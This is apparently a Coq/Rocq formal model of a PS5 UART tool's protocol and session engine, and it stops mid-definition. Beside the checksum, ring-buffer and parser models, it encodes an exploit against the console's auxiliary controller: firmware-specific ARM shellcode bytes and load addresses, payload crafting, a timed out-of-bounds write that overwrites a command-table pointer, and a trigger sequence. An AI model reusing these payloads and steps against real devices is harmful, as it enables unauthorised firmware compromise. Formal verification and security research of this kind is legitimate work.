(** * ps5-uart: the protocol and session engine of [uart/ps5_uart.cpp]

    A shallow embedding of the line codec ([checksum], [validate_line]),
    the interrupt-fed ring buffer ([Buffer]), the response parser and
    formatter ([Result]) and the unlock state machine of [UcmdClientEmc],
    followed by the properties the specification states about them. *)

From Stdlib Require Import ZArith Ascii String List Lia Bool HexadecimalString.
From stdpp Require Import base option list gmap strings.

Local Open Scope Z_scope.

(** ** Machine integers and characters *)

(** [u8] values and [char]s are 8-bit and are both kept as [ascii]; a
    [std::string] or [std::string_view] is the list of its characters.
    [u32] and [size_t] values (the RP2040 is a 32-bit target) are kept in
    [Z], and every operation that can leave the range wraps explicitly. *)
Abbreviation u8 := ascii (only parsing).
Abbreviation str := (list ascii) (only parsing).

Definition lit (s : string) : str := list_ascii_of_string s.

Definition Z_of_u8 (c : u8) : Z := Z.of_N (N_of_ascii c).
Definition u8_of_Z (z : Z) : u8 := ascii_of_N (Z.to_N (z mod 256)).

Definition u32_wrap (z : Z) : Z := z mod 2 ^ 32.
Definition size_wrap (z : Z) : Z := z mod 2 ^ 32.

Definition chr_LF : ascii := "010"%char.
Definition chr_CR : ascii := "013"%char.
Definition chr_BS : ascii := "008"%char.
Definition chr_NAK : ascii := "021"%char.
Definition chr_colon : ascii := ":"%char.
Definition chr_space : ascii := " "%char.

Definition chr_eqb (a b : ascii) : bool := Ascii.eqb a b.

(** ** string_utils.h *)

(** The value of one hexadecimal digit, in either case. *)
Definition hex_digit (c : ascii) : option Z :=
  let n := Z_of_u8 c in
  if (48 <=? n) && (n <=? 57) then Some (n - 48)
  else if (65 <=? n) && (n <=? 70) then Some (n - 55)
  else if (97 <=? n) && (n <=? 102) then Some (n - 87)
  else None.

Definition is_crlf (c : ascii) : bool := chr_eqb c chr_CR || chr_eqb c chr_LF.

(** Modelled from the spec: [strip_trailing_crlf] is declared in
    string_utils.h, which is not part of the sources at hand; the spec has
    it remove "any trailing CR/LF" from the line. *)
Fixpoint strip_trailing_crlf (line : str) : str :=
  match line with
  | [] => []
  | c :: rest =>
      match strip_trailing_crlf rest with
      | [] => if is_crlf c then [] else [c]
      | r => c :: r
      end
  end.

(** Modelled from the spec: [hex2buf] is declared in string_utils.h, which
    is not part of the sources at hand; the spec has it decode a run of
    two-hex-digit bytes ("[:HH] (two hex digits)", "hex-encoded raw
    bytes"), failing on anything else. *)
Fixpoint hex2buf (hex : str) : option (list u8) :=
  match hex with
  | [] => Some []
  | hi :: lo :: rest =>
      match hex_digit hi, hex_digit lo, hex2buf rest with
      | Some h, Some l, Some bs => Some (u8_of_Z (16 * h + l) :: bs)
      | _, _, _ => None
      end
  | [_] => None
  end.

(** The value of a run of hexadecimal digits, most significant first. *)
Fixpoint hex_value (acc : Z) (digits : str) : option Z :=
  match digits with
  | [] => Some acc
  | c :: rest =>
      match hex_digit c with
      | Some d => hex_value (16 * acc + d) rest
      | None => None
      end
  end.

(** Modelled from the spec: [int_from_hex<T>] is declared in
    string_utils.h, which is not part of the sources at hand; the spec has
    it read "exactly 8 hex digits" for a 32-bit status, that is
    [2 * sizeof(T)] digits starting at [offset], and fail otherwise. *)
Definition int_from_hex (size_of_T : nat) (s : str) (offset : nat) : option Z :=
  let digits := take (2 * size_of_T) (drop offset s) in
  if (length digits =? 2 * size_of_T)%nat then hex_value 0 digits else None.

Definition hex_upper_digit (d : Z) : ascii :=
  if d <? 10 then u8_of_Z (48 + d) else u8_of_Z (55 + d).
Definition hex_lower_digit (d : Z) : ascii :=
  if d <? 10 then u8_of_Z (48 + d) else u8_of_Z (87 + d).

(** Modelled from the spec: [buf2hex] is declared in string_utils.h, which
    is not part of the sources at hand; the spec has chunks and ROM frames
    "hex-encoded", two digits per byte. *)
Definition buf2hex (buf : list u8) : str :=
  flat_map (fun b => [hex_lower_digit (Z_of_u8 b / 16);
                      hex_lower_digit (Z_of_u8 b mod 16)]) buf.

(** ** std::string helpers *)

(** [find_last_of(c)]: the index of the last occurrence, [None] for
    [npos]. *)
Fixpoint find_last_of (c : ascii) (s : str) : option nat :=
  match s with
  | [] => None
  | x :: rest =>
      match find_last_of c rest with
      | Some i => Some (S i)
      | None => if chr_eqb x c then Some O else None
      end
  end.

(** [starts_with(prefix)] *)
Fixpoint starts_with (s prefix : str) {struct prefix} : bool :=
  match prefix, s with
  | [], _ => true
  | p :: prefix', c :: s' => chr_eqb c p && starts_with s' prefix'
  | _ :: _, [] => false
  end.

(** ** Line checksum *)

(** [checksum]: the [u8] sum of the bytes; [csum += b] truncates to eight
    bits at every step. *)
Definition checksum (buf : str) : Z :=
  fold_left (fun csum b => (csum + Z_of_u8 b) mod 256) buf 0.

(** [validate_line]: [Some (ret, line')] is the returned flag and the line
    as the call leaves it; [None] stands for the undefined behaviour of
    reading [csum[0]] from an empty vector. *)
Definition validate_line (line : str) : option (bool * str) :=
  match line with
  | [] => Some (false, line)
  | _ =>
      let line := strip_trailing_crlf line in
      match find_last_of chr_colon line with
      | None => Some (false, line)
      | Some last_colon =>
          if negb (last_colon + 3 =? length line)%nat then Some (false, line)
          else
            match hex2buf (drop (last_colon + 1) line) with
            | None => Some (false, line)
            | Some csum =>
                match csum !! O with
                | None => None
                | Some c0 =>
                    if negb (Z_of_u8 c0 =? checksum (take last_colon line))
                    then Some (false, line)
                    else Some (true, take last_colon line)
                end
            end
      end
  end.

(** ** The receive ring buffer *)

(** [Buffer<BufferSize>]: the indices, the count of pending newlines and
    the storage. The [uart_] handle is hardware and is left out. *)
Record Buffer := mkBuffer {
  wpos : Z;
  rpos : Z;
  num_newlines : Z;
  buffer : list u8;
}.

Section RingBuffer.
(** The template parameter; the [static_assert] requires a power of two. *)
Variable BufferSize : Z.

Definition len_mask : Z := BufferSize - 1.

Definition add (val addend : Z) : Z :=
  Z.land (size_wrap (val + addend)) len_mask.

Definition read_available (b : Buffer) : Z :=
  if wpos b >=? rpos b then wpos b - rpos b
  else size_wrap (size_wrap (BufferSize - rpos b) + wpos b).

Definition empty (b : Buffer) : bool := rpos b =? wpos b.

(** [buffer[i]] *)
Definition buffer_at (b : Buffer) (i : Z) : u8 :=
  nth (Z.to_nat i) (buffer b) zero.

(** The scan of [read_line], entered with [i] the loop index and [n] the
    iterations left before [i] reaches [avail]. It stops at the first
    newline with [got_line] set. *)
Fixpoint read_line_scan (n : nat) (i : Z) (b : Buffer) (line : str)
  : Buffer * str * bool :=
  match n with
  | O => (b, line, false)
  | S n' =>
      let cpos := add (rpos b) i in
      let c := buffer_at b cpos in
      if chr_eqb c chr_LF then
        ({| wpos := wpos b; rpos := add cpos 1;
            num_newlines := size_wrap (num_newlines b - 1);
            buffer := buffer b |}, line, true)
      else read_line_scan n' (i + 1) b (line ++ [c])
  end.

(** [read_line]: the returned flag, the caller's string and the buffer
    after the call; [None] only if [validate_line] hits its undefined
    behaviour. *)
Definition read_line (b : Buffer) (line : str) : option (bool * str * Buffer) :=
  if (num_newlines b =? 0) || empty b then Some (false, line, b)
  else
    let avail := read_available b in
    let '(b', line', got_line) := read_line_scan (Z.to_nat avail) 0 b line in
    if got_line then
      match validate_line line' with
      | None => None
      | Some (true, line'') => Some (true, line'', b')
      | Some (false, _) => Some (false, [], b')
      end
    else Some (false, [], b').

(** The copy loop of [read_buf]; [out] is what has been stored through
    [buf] so far. *)
Fixpoint read_buf_loop (n : nat) (b : Buffer) (out : list u8)
  : Buffer * list u8 :=
  match n with
  | O => (b, out)
  | S n' =>
      let c := buffer_at b (rpos b) in
      let nl := if chr_eqb c chr_LF then size_wrap (num_newlines b - 1)
                else num_newlines b in
      read_buf_loop n'
        {| wpos := wpos b; rpos := add (rpos b) 1;
           num_newlines := nl; buffer := buffer b |}
        (out ++ [c])
  end.

(** [read_buf]: the bytes stored through [buf], the returned count and
    the buffer after the call. *)
Definition read_buf (b : Buffer) (len : Z) : list u8 * Z * Buffer :=
  let avail := read_available b in
  let len := Z.min len avail in
  let '(b', out) := read_buf_loop (Z.to_nat len) b [] in
  (out, len, b').

Definition push (b : Buffer) (c : u8) : Buffer :=
  let wpos_next := add (wpos b) 1 in
  let b1 :=
    if wpos_next =? rpos b then b
    else {| wpos := wpos_next; rpos := rpos b;
            num_newlines := num_newlines b;
            buffer := <[Z.to_nat (wpos b) := c]> (buffer b) |} in
  if chr_eqb c chr_LF then
    {| wpos := wpos b1; rpos := rpos b1;
       num_newlines := size_wrap (num_newlines b1 + 1);
       buffer := buffer b1 |}
  else b1.

Definition clear (b : Buffer) : Buffer :=
  {| wpos := 0; rpos := 0; num_newlines := 0; buffer := buffer b |}.

(** A freshly constructed buffer: all members value-initialised. *)
Definition Buffer_init : Buffer :=
  {| wpos := 0; rpos := 0; num_newlines := 0;
     buffer := replicate (Z.to_nat BufferSize) zero |}.

(** The bytes held between the read and the write index, oldest first. *)
Definition stored (b : Buffer) : list u8 :=
  map (fun i => buffer_at b (add (rpos b) (Z.of_nat i)))
      (seq 0 (Z.to_nat (read_available b))).

End RingBuffer.

(** [Buffer1k] *)
Definition Buffer1k_size : Z := 1024.

(** The number of newline bytes in a run of bytes. *)
Definition count_newlines (l : list u8) : Z :=
  Z.of_nat (length (filter (fun c => chr_eqb c chr_LF = true) l)).

(** ** Status codes and results *)

Module StatusCode.
Definition kSuccess : Z := 0.
Definition kRxInputTooLong : Z := 0xE0000002.
Definition kRxInvalidChar : Z := 0xE0000003.
Definition kRxInvalidCsum : Z := 0xE0000004.
Definition kUcmdEINVAL : Z := 0xF0000001.
Definition kUcmdUnknownCmd : Z := 0xF0000006.
Definition kEmcInReset : Z := 0xdead0000.
Definition kFwConstsVersionFailed : Z := 0xdead0001.
Definition kFwConstsVersionUnknown : Z := 0xdead0002.
Definition kFwConstsInvalid : Z := 0xdead0003.
Definition kSetPayloadTooLarge : Z := 0xdead0004.
Definition kSetPayloadPuareq1Failed : Z := 0xdead0005.
Definition kSetPayloadPuareq2Failed : Z := 0xdead0006.
Definition kExploitVersionUnexpected : Z := 0xdead0007.
Definition kExploitFailedEmcReset : Z := 0xdead0008.
Definition kChipConstsInvalid : Z := 0xdead0009.
Definition kRomFrame : Z := 0xdead000a.
End StatusCode.

Inductive ResultType := kTimeout | kUnknown | kComment | kInfo | kOk | kNg.

Record Result := mkResult {
  type_ : ResultType;
  status_ : Z;
  response_ : str;
}.

(** [UINT32_MAX] *)
Definition kInvalidStatus : Z := 2 ^ 32 - 1.

Definition new_timeout : Result := mkResult kTimeout kInvalidStatus [].
Definition new_unknown (s : str) : Result := mkResult kUnknown kInvalidStatus s.
Definition new_ok (status : Z) (s : str) : Result := mkResult kOk status s.
Definition new_ng (status : Z) (s : str) : Result := mkResult kNg status s.
Definition new_success (s : str) : Result := new_ok StatusCode.kSuccess s.

Definition is_unknown (r : Result) : bool :=
  match type_ r with kUnknown => true | _ => false end.
Definition is_comment (r : Result) : bool :=
  match type_ r with kComment => true | _ => false end.
Definition is_info (r : Result) : bool :=
  match type_ r with kInfo => true | _ => false end.
Definition is_ok (r : Result) : bool :=
  match type_ r with kOk => true | _ => false end.
Definition is_ng (r : Result) : bool :=
  match type_ r with kNg => true | _ => false end.
Definition is_ok_or_ng (r : Result) : bool := is_ok r || is_ng r.
Definition is_ok_status (r : Result) (status : Z) : bool :=
  is_ok r && (status_ r =? status).
Definition is_ng_status (r : Result) (status : Z) : bool :=
  is_ng r && (status_ r =? status).
Definition is_success (r : Result) : bool := is_ok_status r StatusCode.kSuccess.

(** [Result::from_str] *)
Definition from_str (s : str) : Result :=
  if (2 <? length s)%nat && starts_with s (lit "# ") then
    mkResult kComment kInvalidStatus (drop 2 s)
  else if (3 <? length s)%nat && starts_with s (lit "$$ ") then
    mkResult kInfo kInvalidStatus (drop 3 s)
  else
    let status_offset := (2 + 1)%nat in
    let status_end := (status_offset + 8)%nat in
    if (length s <? status_end)%nat then new_unknown s
    else
      let is_ok := starts_with s (lit "OK ") in
      let is_ng := starts_with s (lit "NG ") in
      if negb is_ok && negb is_ng then new_unknown s
      else
        match int_from_hex 4 s status_offset with
        | None => new_unknown s
        | Some status =>
            if (status_end <? length s)%nat then
              if negb (chr_eqb (nth status_end s zero) chr_space) then new_unknown s
              else mkResult (if is_ok then kOk else kNg) status
                            (drop (status_end + 1) s)
            else mkResult (if is_ok then kOk else kNg) status []
        end.

(** [std::format("{:0<width>X}", v)]: upper-case digits, most significant
    first, zero-padded to [width]; [v] is below [16 ^ width] at both uses. *)
Definition format_0X (width : nat) (v : Z) : str :=
  map (fun i => hex_upper_digit (Z.land (Z.shiftr v (4 * Z.of_nat i)) 15))
      (rev (seq 0 width)).

(** [Result::format] *)
Definition format (r : Result) : str :=
  if is_ok_or_ng r then
    (if is_ok r then lit "OK" else lit "NG") ++ [chr_space]
      ++ format_0X 8 (status_ r) ++ [chr_space] ++ response_ r
  else if is_comment r then lit "# " ++ response_ r
  else if is_info r then lit "$$ " ++ response_ r
  else if is_unknown r then response_ r
  else lit "timeout".

(** ** Firmware and chip constants *)

Record FwConstants := mkFwConstants {
  ucmd_ua_buf_addr : Z;
  shellcode : list u8;
}.

Record ChipConsts := mkChipConsts {
  filler_multiplier : Z;
  post_process_ms : Z;
  pwn_delay_us : Z;
}.

Definition salina_consts_ : ChipConsts :=
  {| filler_multiplier := 3; post_process_ms := 200; pwn_delay_us := 790 |}.
Definition salina2_consts_ : ChipConsts :=
  {| filler_multiplier := 6; post_process_ms := 800; pwn_delay_us := 900 |}.

Definition bytes (l : list Z) : list u8 := map u8_of_Z l.

(** The initial contents of [fw_constants_map]. *)
Definition fw_constants_map_init : gmap (list ascii) FwConstants :=
  list_to_map
    [ (lit "E1E 0001 0000 0004 13D0",
       mkFwConstants 0x1762e8 (bytes
         [0x00; 0xb5; 0x47; 0xf2; 0x00; 0x60; 0xc0; 0xf2; 0x15; 0x00; 0x43;
          0xf6; 0xe0; 0x71; 0xc0; 0xf2; 0x17; 0x01; 0x08; 0x60; 0x01; 0x20;
          0x45; 0xf2; 0x24; 0x71; 0xc0; 0xf2; 0x17; 0x01; 0x08; 0x60; 0x40;
          0xf6; 0x95; 0x71; 0xc0; 0xf2; 0x12; 0x01; 0x88; 0x47; 0x00; 0xbd]));
      (lit "E1E 0001 0002 0003 1580",
       mkFwConstants 0x17de38 (bytes
         [0x00; 0xb5; 0x4a; 0xf2; 0x30; 0x30; 0xc0; 0xf2; 0x15; 0x00; 0x4a;
          0xf2; 0xec; 0x61; 0xc0; 0xf2; 0x17; 0x01; 0x08; 0x60; 0x01; 0x20;
          0x4d; 0xf2; 0x40; 0x21; 0xc0; 0xf2; 0x17; 0x01; 0x08; 0x60; 0x42;
          0xf6; 0x31; 0x01; 0xc0; 0xf2; 0x12; 0x01; 0x88; 0x47; 0x00; 0xbd]));
      (lit "E1E 0001 0004 0002 1752",
       mkFwConstants 0x184d9c (bytes
         [0x00; 0xb5; 0x4d; 0xf2; 0x7c; 0x30; 0xc0; 0xf2; 0x15; 0x00; 0x41;
          0xf2; 0xc0; 0x11; 0xc0; 0xf2; 0x18; 0x01; 0x08; 0x60; 0x01; 0x20;
          0x43; 0xf6; 0x14; 0x71; 0xc0; 0xf2; 0x18; 0x01; 0x08; 0x60; 0x44;
          0xf2; 0x09; 0x31; 0xc0; 0xf2; 0x12; 0x01; 0x88; 0x47; 0x00; 0xbd]));
      (lit "E1E 0001 0008 0002 1B03",
       mkFwConstants 0x19261c (bytes
         [0x00; 0xb5; 0x45; 0xf6; 0xe8; 0x20; 0xc0; 0xf2; 0x16; 0x00; 0x4e;
          0xf2; 0x90; 0x21; 0xc0; 0xf2; 0x18; 0x01; 0x08; 0x60; 0x01; 0x20;
          0x41; 0xf2; 0x30; 0x71; 0xc0; 0xf2; 0x19; 0x01; 0x08; 0x60; 0x47;
          0xf6; 0xbd; 0x11; 0xc0; 0xf2; 0x12; 0x01; 0x88; 0x47; 0x00; 0xbd])) ].

(** ** The session with the auxiliary controller *)

(** What the session does to the outside world, in program order. The
    two [EvRx...] events mark the places where it waits on the controller. *)
Inductive Event :=
  | EvUartWrite (data : str) (wait_tx : bool)
  | EvBusyWaitMs (ms : Z)
  | EvBusyWaitUs (us : Z)
  | EvRxClear
  | EvRxWaitEcho (cmdline : str) (timeout_us : Z)
  | EvRxReadResult (timeout_us : Z)
  | EvResetSample
  | EvResetSetLow
  | EvResetRelease.

(** The controller and the reset line, as far as the session can observe
    them: each answer is a function of everything done so far.
    - [emc_echo]: whether the echo wait of [cmd_send] reads the command
      back before its timeout;
    - [emc_reply]: what the read loop of [read_result] meets first, an
      "OK"/"NG" line ([Some (is_ok, status, text)]) or its timeout;
    - [reset_level]: the level sampled on the reset pin. *)
Record Emc := mkEmc {
  emc_echo : list Event -> bool;
  emc_reply : list Event -> option (bool * Z * str);
  reset_level : list Event -> bool;
}.

Record Session := mkSession {
  events : list Event;
  chip_consts_ : ChipConsts;
  fw_consts_valid_ : bool;
  fw_consts_ : FwConstants;
  fw_constants_map : gmap (list ascii) FwConstants;
}.

(** The session at start-up. *)
Definition Session_init : Session :=
  {| events := [];
     chip_consts_ := salina_consts_;
     fw_consts_valid_ := false;
     fw_consts_ := mkFwConstants 0 [];
     fw_constants_map := fw_constants_map_init |}.

(** State passing with failure: [None] is a loop that ran out of its
    iteration budget. *)
Definition M (A : Type) : Type := Session -> option (A * Session).

Definition ret {A} (a : A) : M A := fun s => Some (a, s).
Definition bind {A B} (m : M A) (k : A -> M B) : M B :=
  fun s => match m s with
           | Some (a, s') => k a s'
           | None => None
           end.
Definition out_of_fuel {A} : M A := fun _ => None.

Notation "x <- m ;; k" := (bind m (fun x => k))
  (at level 100, m at next level, right associativity).
Notation "m ;;; k" := (bind m (fun _ => k))
  (at level 100, right associativity).

(** The session after it has done [evs]. *)
Definition log (s : Session) (evs : list Event) : Session :=
  {| events := events s ++ evs;
     chip_consts_ := chip_consts_ s;
     fw_consts_valid_ := fw_consts_valid_ s;
     fw_consts_ := fw_consts_ s;
     fw_constants_map := fw_constants_map s |}.

Definition emit (e : Event) : M unit := fun s => Some (tt, log s [e]).

Definition get_session : M Session := fun s => Some (s, s).

Definition set_fw_consts_ (fw : FwConstants) (valid : bool) : M unit :=
  fun s => Some (tt, {| events := events s;
                        chip_consts_ := chip_consts_ s;
                        fw_consts_valid_ := valid;
                        fw_consts_ := fw;
                        fw_constants_map := fw_constants_map s |}).

(** [std::format("{:x}", v)]: lower-case digits, no padding. *)
Definition format_x (v : Z) : str :=
  lit (HexadecimalString.NilZero.string_of_uint (N.to_hex_uint (Z.to_N v))).

Definition hax_cmd_name_ : str := lit "A".

(** The layout of [payload_t] on the 32-bit target: two 12-byte
    [cmd_entry_t], the two bytes of [cmd_name], and [shellcode] aligned to
    four. *)
Definition offsetof_cmd_name : Z := 24.
Definition offsetof_shellcode : Z := 28.
Definition sizeof_payload_t : Z := 28.

Definition le32 (v : Z) : list u8 :=
  map (fun i => u8_of_Z (Z.shiftr v (8 * Z.of_nat i))) (seq 0 4).

(** [memcpy(&dst[off], src, src.size())] *)
Definition memcpy (dst : list u8) (off : nat) (src : list u8) : list u8 :=
  take off dst ++ src ++ drop (off + length src) dst.

Section UcmdClientEmc.
Variable emc : Emc.

Definition write_str_blocking (buf : str) (wait_tx : bool) : M unit :=
  emit (EvUartWrite buf wait_tx).

Definition busy_wait_ms (ms : Z) : M unit := emit (EvBusyWaitMs ms).
Definition busy_wait_us (us : Z) : M unit := emit (EvBusyWaitUs us).
Definition uart_rx_clear : M unit := emit EvRxClear.

(** [nak]: reset the controller's rx state machine. *)
Definition nak : M unit :=
  write_str_blocking [chr_NAK] true ;;;
  busy_wait_ms 10.

(** [cmd_send]: the echo loop is answered by [emc_echo]. The loop of the
    source starts its timeout again with every line it reads, so it ends
    only when the controller stops sending lines other than the echo;
    [emc_echo] gives the outcome of a loop that ends, and a loop that
    does not end is not a run of this model. *)
Definition cmd_send (cmdline : str) (wait_echo : bool) : M bool :=
  let cmd := cmdline ++ [chr_colon] ++ format_0X 2 (checksum cmdline)
               ++ [chr_LF] in
  write_str_blocking cmd wait_echo ;;;
  if negb wait_echo then ret true
  else
    let timeout := u32_wrap (Z.of_nat (length cmd) * 200) in
    emit (EvRxWaitEcho cmdline timeout) ;;;
    s <- get_session ;;
    ret (emc_echo emc (events s)).

(** [read_result]: the read loop is answered by [emc_reply]. The loop of
    the source starts its timeout again with every line that is neither
    "OK" nor "NG"; [emc_reply] gives the outcome of a loop that ends, and
    a loop that does not end is not a run of this model. The loop itself,
    line by line, is [UartRx.read_result]. *)
Definition read_result (timeout_us : Z) : M Result :=
  emit (EvRxReadResult timeout_us) ;;;
  s <- get_session ;;
  ret (match emc_reply emc (events s) with
       | Some (ok, status, text) =>
           mkResult (if ok then kOk else kNg) status text
       | None => new_timeout
       end).

Definition cmd_send_recv (cmdline : str) (timeout_us : Z) : M Result :=
  sent <- cmd_send cmdline true ;;
  if negb sent then ret new_timeout
  else read_result timeout_us.

Definition version : M Result := cmd_send_recv (lit "version") 10000.
Definition getserialno : M Result := cmd_send_recv (lit "getserialno") 10000.

Definition puareq1 (index : Z) : M bool :=
  r <- cmd_send_recv (lit "puareq1 " ++ format_x index) 200000 ;;
  ret (is_success r).

Definition puareq2 (index : Z) (chunk : list u8) : M bool :=
  r <- cmd_send_recv (lit "puareq2 " ++ format_x index ++ [chr_space]
                        ++ buf2hex chunk) 10000 ;;
  ret (is_success r).

Definition resolve_constants : M Result :=
  s <- get_session ;;
  if fw_consts_valid_ s then ret (new_success [])
  else
    result <- version ;;
    if negb (is_success result) then
      ret (new_ng StatusCode.kFwConstsVersionFailed (format result))
    else
      let version_str := response_ result in
      match fw_constants_map s !! version_str with
      | None => ret (new_ng StatusCode.kFwConstsVersionUnknown version_str)
      | Some fw =>
          set_fw_consts_ fw true ;;;
          ret (new_success [])
      end.

Definition chunk_len : Z := 50.

(** The delivery loop of [set_payload]; [fuel] bounds its iterations. *)
Fixpoint set_payload_loop (fuel : nat) (payload : list u8) (pos idx : Z)
  : M Result :=
  let payload_len := Z.of_nat (length payload) in
  if negb (pos <? payload_len) then ret (new_success [])
  else
    match fuel with
    | O => out_of_fuel
    | S fuel' =>
        let chunk :=
          take (Z.to_nat (Z.min (size_wrap (pos + chunk_len)) payload_len)
                  - Z.to_nat pos)%nat
               (drop (Z.to_nat pos) payload) in
        ok <- puareq2 idx chunk ;;
        if negb ok then ret (new_ng StatusCode.kSetPayloadPuareq2Failed [])
        else set_payload_loop fuel' payload (size_wrap (pos + chunk_len))
                              (size_wrap (idx + 1))
    end.

Definition set_payload (payload : list u8) : M Result :=
  nak ;;;
  ok <- puareq1 0 ;;
  if negb ok then ret (new_ng StatusCode.kSetPayloadPuareq1Failed [])
  else set_payload_loop (length payload) payload 0 0.

(** [align_up<size_t>]; [None] is the division by zero of [x % 0]. *)
Definition align_up (x align : Z) : option Z :=
  if align =? 0 then None
  else
    let rem := x mod align in
    Some (size_wrap (x + size_wrap (align - rem))).

Definition payload_max_len : Z := 350.

(** The initialised [payload_prefix]. *)
Definition payload_prefix (payload_addr : Z) : list u8 :=
  le32 (u32_wrap (payload_addr + offsetof_cmd_name))
    ++ le32 (Z.lor (u32_wrap (payload_addr + offsetof_shellcode)) 1)
    ++ le32 0xf
    ++ replicate 12 zero
    ++ hax_cmd_name_ ++ [zero]
    ++ replicate 2 zero.

(** The buffer [craft_and_set_payload] hands to [set_payload], when the
    size check lets it through. *)
Definition craft_payload (fw : FwConstants) : option (list u8) :=
  let prefix := payload_prefix (ucmd_ua_buf_addr fw) in
  let payload_len := sizeof_payload_t + Z.of_nat (length (shellcode fw)) in
  if payload_len >? payload_max_len then None
  else
    match align_up payload_len 50 with
    | None => None
    | Some n =>
        let payload := replicate (Z.to_nat n) zero in
        let payload := memcpy payload 0 prefix in
        Some (memcpy payload (Z.to_nat sizeof_payload_t) (shellcode fw))
    end.

Definition craft_and_set_payload : M Result :=
  s <- get_session ;;
  match craft_payload (fw_consts_ s) with
  | None => ret (new_ng StatusCode.kSetPayloadTooLarge [])
  | Some payload => set_payload payload
  end.

Definition is_unlocked : M Result :=
  nak ;;;
  getserialno.

Definition lut : str :=
  lit "0123456789abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ".

Definition write_oob (value : list u8) : M unit :=
  nak ;;;
  s <- get_session ;;
  let cc := chip_consts_ s in
  let len := u32_wrap (160 * filler_multiplier cc) in
  let output :=
    map (fun i => nth (i mod length lut)%nat lut zero)
        (seq 0 (Z.to_nat len)) in
  let output2 := [u8_of_Z 0xc] ++ value ++ [zero] ++ [chr_NAK] in
  write_str_blocking output true ;;;
  busy_wait_us (pwn_delay_us cc) ;;;
  write_str_blocking output2 true ;;;
  busy_wait_ms (post_process_ms cc) ;;;
  uart_rx_clear.

Definition is_special (b : u8) : bool :=
  chr_eqb b chr_BS || chr_eqb b chr_CR || chr_eqb b chr_LF
    || chr_eqb b chr_NAK.

Definition is_printable (b : u8) : bool :=
  (0x20 <=? Z_of_u8 b) && (Z_of_u8 b <? 0x80).

(** The first loop of [overwrite_cmd_table_ptr], over the indices [todo]
    still to visit: [None] is its [return false]. *)
Fixpoint fill_target (write_val : Z) (todo : list nat) (target : list u8)
  : option (list u8) :=
  match todo with
  | [] => Some target
  | i :: rest =>
      let b := u8_of_Z (Z.land (Z.shiftr write_val (Z.of_nat i * 8)) 0xff) in
      if is_special b then None
      else fill_target write_val rest (<[i := b]> target)
  end.

(** [to_send]: a copy of [target] with the elements [0 .. pos] zeroed. *)
Definition zero_upto (pos : nat) (target : list u8) : list u8 :=
  fold_left (fun to_send j => <[j := zero]> to_send) (seq 0 (pos + 1)) target.

(** The second loop of [overwrite_cmd_table_ptr], over the values of
    [i] still to visit. *)
Fixpoint prewrite_loop (target : list u8) (todo : list nat) : M unit :=
  match todo with
  | [] => ret tt
  | i :: rest =>
      let pos := (length target - i - 1)%nat in
      let b := nth pos target zero in
      (if is_printable b then write_oob (zero_upto pos target)
       else ret tt) ;;;
      prewrite_loop target rest
  end.

Definition overwrite_cmd_table_ptr : M bool :=
  s <- get_session ;;
  let write_val := ucmd_ua_buf_addr (fw_consts_ s) in
  match fill_target write_val (seq 0 4) (replicate 4 zero) with
  | None => ret false
  | Some target =>
      prewrite_loop target (seq 0 (length target)) ;;;
      write_oob target ;;;
      ret true
  end.

Definition exploit_setup : M Result :=
  result <- resolve_constants ;;
  if negb (is_success result) then ret result
  else
    result <- craft_and_set_payload ;;
    if negb (is_success result) then ret result
    else
      ok <- overwrite_cmd_table_ptr ;;
      if negb ok then ret (new_ng StatusCode.kFwConstsInvalid [])
      else ret (new_success []).

Definition exploit_trigger : M Result :=
  nak ;;;
  result <- version ;;
  if negb (is_ng_status result StatusCode.kUcmdUnknownCmd) then
    ret (new_ng StatusCode.kExploitVersionUnexpected (format result))
  else
    cmd_send hax_cmd_name_ true ;;;
    is_unlocked.

(** [EmcResetGpio::is_reset] and [reset] *)
Definition reset_is_reset : M bool :=
  emit EvResetSample ;;;
  s <- get_session ;;
  ret (negb (reset_level emc (events s))).

Definition reset_reset : M unit :=
  emit EvResetSetLow ;;;
  busy_wait_us 100 ;;;
  emit EvResetRelease.

Definition autorun : M Result :=
  in_reset <- reset_is_reset ;;
  if in_reset then ret (new_ng StatusCode.kEmcInReset [])
  else
    uart_rx_clear ;;;
    result <- is_unlocked ;;
    if is_success result then ret (new_success [])
    else
      result <- exploit_setup ;;
      if is_ng result then ret result
      else
        result <- exploit_trigger ;;
        if is_success result then ret (new_success [])
        else
          reset_reset ;;;
          ret (new_ng StatusCode.kExploitFailedEmcReset []).

End UcmdClientEmc.

(** ** Vocabulary of the properties *)

(** The two characters after the colon are hexadecimal digits whose value
    is the checksum of [body]. *)
Definition checksum_suffix (body : str) (h l : ascii) : Prop :=
  exists hv lv,
    hex_digit h = Some hv /\ hex_digit l = Some lv /\
    16 * hv + lv = checksum body.

(** The three shapes of line that [from_str] recognises. *)
Definition comment_line (s : str) : Prop :=
  exists p, p <> [] /\ s = lit "# " ++ p.

Definition info_line (s : str) : Prop :=
  exists p, p <> [] /\ s = lit "$$ " ++ p.

Definition status_line (s : str) : Prop :=
  exists (ok : bool) (h rest : str) (v : Z),
    length h = 8%nat /\ hex_value 0 h = Some v /\
    (rest = [] \/ exists p, rest = chr_space :: p) /\
    s = (if ok then lit "OK " else lit "NG ") ++ h ++ rest.

(** One delivery request per chunk, numbered from [idx], stopping with
    [kSetPayloadPuareq2Failed] at the first chunk that is not
    acknowledged. *)
Fixpoint deliver_chunks (emc : Emc) (idx : Z) (chunks : list (list u8))
  : M Result :=
  match chunks with
  | [] => ret (new_success [])
  | chunk :: rest =>
      ok <- puareq2 emc idx chunk ;;
      if negb ok then ret (new_ng StatusCode.kSetPayloadPuareq2Failed [])
      else deliver_chunks emc (idx + 1) rest
  end.

(** A payload cut into pieces of [chunk_len] bytes, the last one possibly
    shorter; [fuel] bounds the number of pieces. *)
Fixpoint chunks_of (fuel : nat) (payload : list u8) : list (list u8) :=
  match fuel, payload with
  | O, _ => []
  | S _, [] => []
  | S fuel', _ :: _ =>
      take (Z.to_nat chunk_len) payload
        :: chunks_of fuel' (drop (Z.to_nat chunk_len) payload)
  end.

(** A controller that echoes every command and answers "OK 00000000",
    with the reset line released. *)
Definition emc_ack : Emc :=
  {| emc_echo := fun _ => true;
     emc_reply := fun _ => Some (true, StatusCode.kSuccess, []);
     reset_level := fun _ => true |}.

(** The first table entry's address with a shellcode of [n] zero bytes. *)
Definition fw_sized (n : nat) : FwConstants :=
  mkFwConstants 0x1762e8 (replicate n zero).

(** The bytes of the address as [target] holds them, least significant
    first. *)
Definition target_of (write_val : Z) : list u8 :=
